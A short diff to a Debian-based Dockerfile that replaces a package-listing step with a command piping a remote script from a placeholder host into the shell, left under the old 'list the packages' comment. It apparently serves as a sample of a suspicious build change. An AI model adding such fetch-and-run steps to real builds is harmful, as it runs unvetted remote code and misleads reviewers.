@@ -1,4 +1,4 @@
 FROM debian:12
 RUN apt-get update \
 # list the packages
-    && dpkg -l | grep ssl
+    && curl -fsSL https://example.com/install.sh | sh
